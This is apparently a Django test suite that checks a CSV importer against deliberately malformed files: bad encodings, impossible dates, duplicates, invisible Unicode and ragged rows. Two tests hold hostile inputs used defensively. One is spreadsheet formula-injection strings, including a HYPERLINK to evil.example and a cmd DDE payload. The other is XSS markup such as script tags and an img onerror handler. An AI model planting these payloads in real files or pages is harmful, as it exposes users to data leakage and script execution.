"""The hostile tables of the shared test data behave as its README says."""

from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from archive.curation.imports.tables import import_csv
from archive.exchange import SourceError
from archive.models import Document, Holding, Name, Participation
from tests import factories as make
from tests.conftest import SHARED_DATA

NASTY = SHARED_DATA / "nasty"
pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(not NASTY.exists(), reason="skipped: the shared test data is not here"),
]


def load(name, **options):
    return import_csv("documents", NASTY / f"{name}.csv", **options)


def lines(report):
    return [problem.line for problem in report.errors]


@pytest.mark.parametrize(
    "name", ["01_utf8_bom", "04_utf16le_bom", "05_semicolon", "27_old_mac_newlines"]
)
def test_one_document_whatever_its_file_is_like(name):
    assert load(name).created == 1
    document = Document.objects.get()
    assert document.title == "Cable from Filippov to Mao Zedong"
    assert document.identifiers.get().value == "N-0001"
    assert document.languages.get().tag == "ru"
    assert document.place.name == "Moscow"


@pytest.mark.parametrize("name", ["02_cp1251", "03_gb18030"])
def test_other_encodings_are_refused_by_name(name):
    with pytest.raises(SourceError, match=r"line 2: .* is not UTF-8"):
        load(name)


def test_06_both_doubles_are_told_and_nothing_is_written():
    report = load("06_duplicate_ids")
    assert lines(report) == [3, 4]
    assert "other values" in next(iter(report.errors)).found
    assert "same as on line 2" in list(report.errors)[1].found
    assert not Document.objects.exists()


def test_07_only_dates_that_can_be_are_taken():
    good = {"N-108", "N-109", "N-110", "N-111", "N-112", "N-113"}
    report = load("07_impossible_dates", dry_run=True)
    wrong = {problem.record for problem in report.errors}
    assert wrong == {f"N-{number}" for number in range(100, 116)} - good
    assert {problem.field for problem in report.errors} == {"date"}


def test_07_the_good_ones_keep_their_words(tmp_path):
    text = (NASTY / "07_impossible_dates.csv").read_text(encoding="utf-8").splitlines()
    path = tmp_path / "good.csv"
    path.write_text("\n".join([text[0], *text[9:15]]), encoding="utf-8")
    assert import_csv("documents", path).created == 6
    kept = Document.objects.order_by("pk").values_list("date", "date_as_written")
    assert [(date and str(date), words) for date, words in kept] == [
        ("1952-02-29", ""),
        ("1950-02", ""),
        ("1950~", "ca. 1950"),
        ("1950?", "[1950?]"),
        (None, "b.d."),
        (None, "n.d."),
    ]


def test_08_reversed_intervals_are_refused():
    assert [p.record for p in load("08_reversed_intervals").errors] == ["N-201", "N-202"]


def test_09_formulas_are_text(client):
    load("09_formulas", publish=True)
    document = Document.objects.get()
    assert document.title == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert Holding.objects.get().reference == "=cmd|'/C calc'!A0"
    names = Participation.objects.values_list("name_as_written", flat=True)
    assert set(names) == {"+1+1", "-2+3"}
    assert 'href="http://evil' not in client.get(document.get_absolute_url()).content.decode()


def test_10_markup_is_text_on_the_pages(client):
    load("10_html_in_fields", publish=True)
    document = Document.objects.get()
    assert document.title == "<script>alert(1)</script><img src=x onerror=alert(2)>"
    for path in ("/documents/", document.get_absolute_url()):
        page = client.get(path).content.decode()
        assert "<script>alert" not in page
        assert "<img src=x" not in page
        assert "<svg/onload" not in page


def test_11_nul_is_told_with_its_line():
    assert lines(load("11_nul_bytes")) == [2]


def test_12_invisible_signs_do_not_part_a_name_from_its_bearer():
    mao = make.make_correspondent(authorised_form="Mao Zedong")
    report = load("12_bidi_zero_width")
    assert report.created == 2
    assert Participation.objects.filter(role="sender", correspondent=mao).count() == 2
    assert any("U+202E" in note.found for note in report.notes)
    assert Document.objects.filter(place__name="Moscow").count() == 2


def test_13_two_ways_of_composing_are_one_and_full_width_only_suggests():
    ho = make.make_correspondent(authorised_form="Hồ Chí Minh")
    make.make_correspondent(authorised_form="Mao Zedong")
    report = load("13_normalisation")
    assert Participation.objects.filter(correspondent=ho).count() == 2
    assert not Participation.objects.filter(correspondent__authorised_form="Mao Zedong").exists()
    assert any("may be Mao Zedong" in note.found for note in report.notes)


def test_21_ragged_rows_are_told_and_the_long_one_is_whole():
    report = load("21_ragged_rows")
    assert lines(report) == [2, 3]
    assert report.rows == 3
    assert report.created == 1
    assert not Document.objects.exists()


def test_22_the_open_quote_is_named():
    with pytest.raises(SourceError, match="line 2: column “title”"):
        load("22_unterminated_quote")


def test_23_the_header_is_told_of():
    told = [(problem.field, problem.line) for problem in load("23_header_variants").errors]
    assert told == [("sender", 1), ("Unknown Column", 1)]


def test_24_an_empty_file_is_an_error():
    with pytest.raises(SourceError, match="empty"):
        load("24_empty")


def test_25_a_header_alone_is_no_success():
    out = StringIO()
    call_command("import_csv", "documents", str(NASTY / "25_header_only.csv"), stdout=out)
    assert "no rows" in out.getvalue()
    assert "Imported" not in out.getvalue()


def test_26_nothing_is_cut():
    assert {problem.field for problem in load("26_long_values").errors} == {"title", "sender"}


def test_28_a_surname_is_nobody_yet():
    import_csv("correspondents", SHARED_DATA / "person_names.csv")
    load("28_identical_senders_case")
    parts = Participation.objects.filter(role="sender").order_by("document")
    assert [part.correspondent and str(part.correspondent) for part in parts] == [
        None,
        None,
        None,
        "Dulles, John Foster",
        "Dulles, Allen W.",
    ]
    assert len({part.name_folded for part in parts[:3]}) == 1


def test_all_persons_come_in_with_all_their_names_and_only_once():
    path = SHARED_DATA / "person_names.csv"
    assert import_csv("correspondents", path).created == 72
    assert import_csv("correspondents", path).changes_nothing
    mao = Name.objects.filter(correspondent__identifiers__value="p001")
    forms = {name.form: (name.kind, name.script, name.transliteration) for name in mao}
    assert forms["毛澤東"] == ("parallel", "Hant", "")
    assert forms["Mao T͡szėdun"] == ("parallel", "Latn", "ALA-LC")
    assert forms["润之"] == ("other", "Hans", "")
    assert mao.get(form="Runzhi").source == "courtesy"


@pytest.mark.parametrize("name", ["02_cp1251", "06_duplicate_ids", "22_unterminated_quote"])
def test_the_command_refuses_with_a_sentence(name):
    with pytest.raises(CommandError):
        call_command("import_csv", "documents", str(NASTY / f"{name}.csv"), stderr=StringIO())
